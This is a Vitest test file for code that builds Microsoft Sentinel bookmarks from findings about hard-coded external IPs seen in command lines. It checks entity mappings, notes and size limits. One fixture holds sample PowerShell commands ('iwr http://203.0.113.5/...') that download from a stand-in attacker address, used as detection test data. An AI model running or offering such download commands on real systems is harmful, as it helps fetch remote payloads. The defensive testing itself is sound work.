import { describe, expect, it } from 'vitest';
import { bookmarkFor, sightingBookmarkFor } from '../../src/sentinel/bookmarkFor.js';
import { CONTEXT, finding } from './sentinelFixtures.js';
import { entitiesFromText } from '../../src/entities/entityLists.js';
import { buildInvestigationQuery } from '../../src/query/buildInvestigationQuery.js';
import { SENTINEL_LIMITS } from '../../src/sentinel/sentinelLimits.js';

const context = { window: CONTEXT.window, labels: ['soc'] };

describe('bookmarkFor', () => {
  it('carries the investigation query, a query result, event and query times, tactics and techniques', () => {
    const f = finding('203.0.113.5');
    const bookmark = bookmarkFor(f, context);
    expect(bookmark.query).toBe(buildInvestigationQuery(f));
    expect(JSON.parse(bookmark.queryResult!)).toMatchObject({ IP: '203.0.113.5', Hosts: ['web01.contoso.com'], EventCount: 3 });
    expect(bookmark.eventTime).toEqual(new Date('2024-05-01T09:00:00Z'));
    expect([bookmark.queryStartTime, bookmark.queryEndTime]).toEqual([CONTEXT.window.start, CONTEXT.window.end]);
    expect(bookmark.tactics).toEqual(['CommandAndControl', 'Exfiltration']);
    expect(bookmark.techniques).toEqual(['T1041', 'T1071']);
    expect(bookmark.labels).toEqual(['cmdline-ip-hunter', 'soc']);
    expect(bookmark.entityMappings?.[0]).toEqual({ entityType: 'IP', fieldMappings: [{ identifier: 'Address', value: '203.0.113.5' }] });
  });

  it('lists the hosts and accounts beyond the entity limit in its notes', () => {
    const hosts = Array.from({ length: 15 }, (_, i) => `h${i}`);
    const bookmark = bookmarkFor(finding('203.0.113.5', { hosts, accounts: ['a1'], commandLinesOmitted: 4 }), context);
    expect(bookmark.entityMappings).toHaveLength(10);
    expect(bookmark.notes).toContain('Hosts not mapped as entities (limit reached): h8, h9, h10, h11, h12, h13, h14');
    expect(bookmark.notes).not.toContain('Accounts not mapped');
    expect(bookmark.notes).toContain('4 further distinct command line(s) not kept.');
  });

  it('lists built-in accounts, which Sentinel drops, in its notes instead of mapping them', () => {
    const bookmark = bookmarkFor(finding('203.0.113.5', { accounts: ['NT AUTHORITY\\SYSTEM', 'CONTOSO\\alice'] }), context);
    expect(bookmark.entityMappings!.filter((m) => m.entityType === 'Account')).toEqual([
      { entityType: 'Account', fieldMappings: [{ identifier: 'Name', value: 'alice' }, { identifier: 'NTDomain', value: 'CONTOSO' }] },
    ]);
    expect(bookmark.notes).toContain('Accounts not mapped as entities (built-in accounts, which Sentinel drops): NT AUTHORITY\\SYSTEM');
  });

  it('samples the events behind the finding in its query result, each command line cut short, within its size bound', () => {
    const samples = Array.from({ length: 5 }, (_, i) => ({
      time: new Date(`2024-05-01T09:0${i}:00Z`),
      entities: { hosts: `ws${i}`, accounts: 'CONTOSO\\alice' },
      process: 'powershell.exe',
      source: 'defender',
      commandLine: `powershell -c iwr http://203.0.113.5/${i} ${'x'.repeat(5_000)}`,
    }));
    const result = JSON.parse(bookmarkFor(finding('203.0.113.5', { samples }), context).queryResult!);
    expect(result.Events).toHaveLength(5);
    expect(result.Events[0]).toEqual({
      TimeGenerated: '2024-05-01T09:00:00.000Z',
      Host: 'ws0',
      Account: 'CONTOSO\\alice',
      Process: 'powershell.exe',
      HuntSource: 'defender',
      CommandLine: expect.stringMatching(/^powershell -c iwr http:\/\/203\.0\.113\.5\/0 x+…$/),
    });
    expect(result.Events[0].CommandLine.length).toBeLessThanOrEqual(300);
    expect(result).not.toHaveProperty('CommandLines');

    const hosts = Array.from({ length: 400 }, (_, i) => `a-rather-long-host-name-${i}.eu.contoso.com`);
    const crowded = bookmarkFor(finding('203.0.113.5', { samples, hosts }), context).queryResult!;
    expect(crowded.length).toBeLessThanOrEqual(SENTINEL_LIMITS.bookmarkQueryResultChars);
    expect(JSON.parse(crowded)).toMatchObject({ Hosts: hosts.slice(0, 50), HostsOmitted: 350, Events: samples.map(() => expect.any(Object)) });
  });
});

describe('sightingBookmarkFor', () => {
  it('maps the IP and only the new hosts and accounts as entities', () => {
    const f = finding('203.0.113.5', { hosts: ['web01.contoso.com', 'db02'], accounts: ['CONTOSO\\alice', 'CONTOSO\\bob'] });
    const bookmark = sightingBookmarkFor(f, entitiesFromText({ hosts: ['db02'], accounts: ['CONTOSO\\bob'] }), context);
    expect(bookmark.entityMappings).toEqual([
      { entityType: 'IP', fieldMappings: [{ identifier: 'Address', value: '203.0.113.5' }] },
      { entityType: 'Host', fieldMappings: [{ identifier: 'HostName', value: 'db02' }] },
      { entityType: 'Account', fieldMappings: [{ identifier: 'Name', value: 'bob' }, { identifier: 'NTDomain', value: 'CONTOSO' }] },
    ]);
    expect(bookmark.displayName).toBe('Hard-coded external IP 203.0.113.5 seen again: 1 new host, 1 new account');
    expect(JSON.parse(bookmark.queryResult!)).toMatchObject({ IP: '203.0.113.5', NewHosts: ['db02'], NewAccounts: ['CONTOSO\\bob'] });
    expect(bookmark.labels).toEqual(['cmdline-ip-hunter', 'soc']);
    expect(bookmark.tactics).toEqual(['CommandAndControl', 'Exfiltration']);
  });

  it('lists the new hosts and accounts beyond the entity limit in its notes', () => {
    const hosts = Array.from({ length: 8 }, (_, i) => `h${i}`);
    const accounts = Array.from({ length: 6 }, (_, i) => `a${i}`);
    const bookmark = sightingBookmarkFor(finding('203.0.113.5', { hosts, accounts }), entitiesFromText({ hosts, accounts }), context);
    expect(bookmark.entityMappings).toHaveLength(10);
    expect(bookmark.notes).toContain('8 new hosts and 6 new accounts since it was reported');
    expect(bookmark.notes).toContain('Hosts not mapped as entities (limit reached): h5, h6, h7');
    expect(bookmark.notes).toContain('Accounts not mapped as entities (limit reached): a4, a5');
  });
});
